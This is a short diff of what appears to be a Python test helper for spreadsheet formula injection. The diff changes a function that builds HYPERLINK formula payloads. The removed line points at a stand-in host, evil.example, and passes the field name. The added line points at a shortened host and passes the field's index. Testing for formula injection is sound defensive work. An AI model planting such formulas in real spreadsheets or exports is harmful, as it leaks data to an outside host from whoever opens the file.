@@ -39,7 +39,8 @@ TEXT_FIELDS = [
 
 
 def payload(prefix: str, field: str) -> str:
-    return f'{prefix}HYPERLINK("http://evil.example/?{field}","x")'
+    """A live formula, one per field, short enough for the narrowest column (30 characters)."""
+    return f'{prefix}HYPERLINK("//e.x/{TEXT_FIELDS.index(field)}","x")'
 
 
 def read_back(value: str) -> str:
